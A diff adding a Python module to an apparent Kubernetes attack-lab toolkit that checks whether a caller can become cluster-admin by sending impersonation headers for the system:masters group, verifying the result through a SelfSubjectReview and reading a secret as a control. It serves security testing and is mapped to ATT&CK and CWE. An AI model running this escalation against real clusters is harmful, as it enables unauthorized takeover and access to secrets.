@@ -1,0 +1,99 @@
+"""Become cluster-admin with two headers: say that one acts for a member of system:masters.
+
+Impersonation is meant for administrators who try what others may do. Who may impersonate
+everybody is everybody.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING
+
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.model.rights import Action
+from labkit.techniques._access import (
+    CHANNEL,
+    IDENTITY,
+    api_url,
+    caller_at,
+    identity,
+    may_all,
+    options_at,
+)
+from labkit.techniques._ask import ask
+from labkit.techniques._base import (
+    ADMIN,
+    NETWORK,
+    POD,
+    ROOT_ON_WORKER,
+    USER_ON_MASTER,
+    USER_ON_WORKER,
+    Prediction,
+    Technique,
+)
+from labkit.techniques._reach import Answer
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+USER, GROUP = "labkit", "system:masters"
+HEADERS = ("--header", f"Impersonate-User: {USER}", "--header", f"Impersonate-Group: {GROUP}")
+ACTIONS = (
+    Action("impersonate", "users", name=USER),
+    Action("impersonate", "groups", name=GROUP),
+)
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether the caller may impersonate users and groups."""
+    return may_all(view, caller_at(view.env, foothold), ACTIONS)
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Ask the apiserver who one is, while claiming to be another."""
+
+    def proof(answer: Answer) -> str:
+        user, groups = identity(answer)
+        if user != USER or GROUP not in groups:
+            raise ProbeError(f"the apiserver took the caller for {user}")
+        return f"the apiserver takes the caller for {USER}, in group {GROUP}"
+
+    def control() -> str:
+        who = ("--as", USER, "--as-group", GROUP)
+        lab.kubectl("get", "--raw=/api/v1/namespaces/shop/secrets?limit=1", *who)
+        return "the administrator may act for the same user and group"
+
+    body = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
+    return ask(
+        lab,
+        TECHNIQUE.name,
+        foothold,
+        api_url(lab, IDENTITY),
+        body=json.dumps(body).encode(),
+        options=[*options_at(lab.environment, foothold), *HEADERS],
+        proof=proof,
+        control=control,
+    )
+
+
+TECHNIQUE = Technique(
+    name="impersonate",
+    title="Become cluster-admin by claiming to act for one",
+    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD, ROOT_ON_WORKER),
+    grants=(ADMIN,),
+    about=CHANNEL,
+    properties=("client_authentication", "authorization"),
+    attack=("T1134", "T1078.001"),
+    stride=("spoofing", "elevation of privilege"),
+    cwe=("CWE-290", "CWE-269"),
+    sources=(
+        "https://kubernetes.io/docs/reference/access-authn-authz/user-impersonation/",
+        "https://attack.mitre.org/techniques/T1134/",
+    ),
+    predict=predict,
+    execute=execute,
+)
